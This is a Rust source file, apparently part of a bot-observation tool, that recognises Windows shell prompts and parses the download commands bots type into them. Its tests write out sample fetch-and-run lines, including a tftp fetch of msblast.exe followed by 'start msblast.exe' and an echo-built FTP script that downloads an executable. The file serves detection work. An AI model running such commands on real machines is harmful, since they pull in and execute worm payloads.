//! Recognises a Windows command shell by what it prints first (the
//! `Microsoft Windows ...` banner or a `C:\...>` prompt) and reads the
//! downloads typed into it: `tftp -i HOST get FILE`, and the FTP script
//! bots type line by line (`echo open HOST PORT > o & echo user U P >> o &
//! echo get FILE >> o & ftp -n -s:o`). Pure functions over bounded input.

use botscope_core::events::ShellFetch;

/// Longest typed line kept.
pub const MAX_LINE: usize = 1024;

/// Whether the first bytes a host sent are a Windows shell's greeting.
pub fn is_greeting(head: &[u8]) -> bool {
    let start = head
        .iter()
        .position(|c| !matches!(c, b'\r' | b'\n' | b' '))
        .unwrap_or(head.len());
    let h = &head[start..];
    if h.starts_with(b"Microsoft Windows") {
        return true;
    }
    let line = &h[..memchr::memchr(b'\n', h).unwrap_or(h.len())];
    is_prompt(line)
}

/// `C:\WINNT\system32>` (a drive, a path, `>` at the end).
pub fn is_prompt(line: &[u8]) -> bool {
    let line = line.strip_suffix(b"\r").unwrap_or(line);
    let line = line.strip_suffix(b" ").unwrap_or(line);
    line.len() >= 4
        && line.len() <= 260
        && line[0].is_ascii_alphabetic()
        && line[1] == b':'
        && line[2] == b'\\'
        && line.ends_with(b">")
        && line.iter().all(|&c| (0x20..0x7f).contains(&c))
}

/// What the session's `echo` lines have written into an FTP script so far.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct FtpScript {
    /// `open HOST [PORT]`.
    pub host: Option<(String, Option<u16>)>,
    /// The last `get FILE`.
    pub file: Option<String>,
}

fn words(s: &str) -> Vec<&str> {
    s.split_whitespace().take(16).collect()
}

/// The download one typed line instructs (updating the session's FTP
/// script with its `echo` parts).
pub fn fetch_of(line: &str, script: &mut FtpScript) -> Option<ShellFetch> {
    let mut found = None;
    for part in line.split(['&', '|']).take(32) {
        let part = part.trim();
        let lower = part.to_ascii_lowercase();
        let w = words(part);
        if lower.starts_with("tftp") && w.first().is_some_and(|x| x.eq_ignore_ascii_case("tftp")) {
            let args: Vec<&str> = w[1..]
                .iter()
                .copied()
                .filter(|a| !a.starts_with('-'))
                .collect();
            if let (Some(host), Some(op)) = (args.first(), args.get(1)) {
                if op.eq_ignore_ascii_case("get") {
                    found = Some(ShellFetch {
                        tool: "tftp".into(),
                        host: host.to_string(),
                        port: None,
                        file: args.get(2).map(|f| f.to_string()),
                    });
                }
            }
        } else if lower.starts_with("echo ") {
            // The text before any redirection.
            let text = part[5..].split('>').next().unwrap_or("");
            let w = words(text);
            match w.first().map(|x| x.to_ascii_lowercase()).as_deref() {
                Some("open") => {
                    if let Some(h) = w.get(1) {
                        script.host = Some((h.to_string(), w.get(2).and_then(|p| p.parse().ok())));
                    }
                }
                Some("get") | Some("recv") => script.file = w.get(1).map(|f| f.to_string()),
                _ => {}
            }
        } else if w
            .first()
            .is_some_and(|x| x.eq_ignore_ascii_case("ftp") || x.eq_ignore_ascii_case("ftp.exe"))
            && lower.contains("-s:")
        {
            if let Some((host, port)) = &script.host {
                found = Some(ShellFetch {
                    tool: "ftp".into(),
                    host: host.clone(),
                    port: *port,
                    file: script.file.clone(),
                });
            }
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn greetings_and_typed_downloads() {
        assert!(is_greeting(b"\r\nC:\\WINNT\\system32>"));
        assert!(is_greeting(b"Microsoft Windows XP [Version 5.1.2600]\r\n"));
        assert!(!is_greeting(b"220 ftp ready\r\n"));
        assert!(!is_greeting(b":irc.x 001 a :hi\r\n"));
        let mut s = FtpScript::default();
        let f = fetch_of(
            "echo open 10.0.0.66 2121 > o & echo user 1 1 >> o & echo get x.exe >> o & ftp -n -s:o",
            &mut s,
        )
        .unwrap();
        assert_eq!(
            f,
            ShellFetch {
                tool: "ftp".into(),
                host: "10.0.0.66".into(),
                port: Some(2121),
                file: Some("x.exe".into())
            }
        );
        let mut s = FtpScript::default();
        let f = fetch_of("tftp -i 10.1.2.3 GET msblast.exe", &mut s).unwrap();
        assert_eq!((f.tool.as_str(), f.host.as_str()), ("tftp", "10.1.2.3"));
        assert_eq!(f.file.as_deref(), Some("msblast.exe"));
        assert_eq!(fetch_of("start msblast.exe", &mut s), None);
        // The script typed over several lines.
        let mut s = FtpScript::default();
        assert_eq!(fetch_of("echo open 1.2.3.4>i", &mut s), None);
        assert_eq!(fetch_of("echo get a.exe>>i", &mut s), None);
        assert_eq!(
            fetch_of("ftp -s:i", &mut s).unwrap().file.as_deref(),
            Some("a.exe")
        );
    }
}
